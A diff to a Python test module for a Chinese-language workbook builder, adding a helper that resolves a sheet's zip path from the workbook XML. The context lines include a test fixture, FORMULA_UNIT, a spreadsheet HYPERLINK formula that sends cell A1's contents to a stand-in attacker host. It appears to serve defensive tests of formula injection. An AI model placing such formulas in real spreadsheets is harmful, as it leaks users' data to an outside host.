@@ -25,11 +25,29 @@ CANARY_TEXT = "CANARY-7f3a9c-不应出现在任何输出中"
 CANARY_UNIT = "金丝雀县委CANARY"
 LPO = "learning_party_org"
 MAIN = "xl/worksheets/sheet1.xml"
-META = "xl/worksheets/sheet2.xml"
 FORMULA_UNIT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 # ------------------------------------------------------------------------------------------------ helpers
+
+
+def _sheet_part(name: str) -> str:
+    """The zip part of the template's sheet `name` (sheets are numbered by position, which layouts change)."""
+    from lxbz_xl.workbook.build import DEFAULT_DIR, template_name
+
+    with zipfile.ZipFile(DEFAULT_DIR / template_name(LPO, "udf")) as z:
+        book = z.read("xl/workbook.xml").decode()
+        rels = z.read("xl/_rels/workbook.xml.rels").decode()
+    rid = re.search(r'<sheet [^>]*name="' + re.escape(name) + r'"[^>]*r:id="([^"]+)"', book)
+    assert rid, name
+    target = re.search(r'<Relationship [^>]*Id="' + rid.group(1) + r'"[^>]*Target="([^"]+)"', rels)
+    if target is None:  # attribute order differs
+        target = re.search(r'Target="([^"]+)"[^>]*Id="' + rid.group(1) + r'"', rels)
+    assert target, name
+    return "xl/" + target.group(1).removeprefix("/xl/")
+
+
+META = _sheet_part("_lxbz")
 
 
 @functools.lru_cache(maxsize=4)
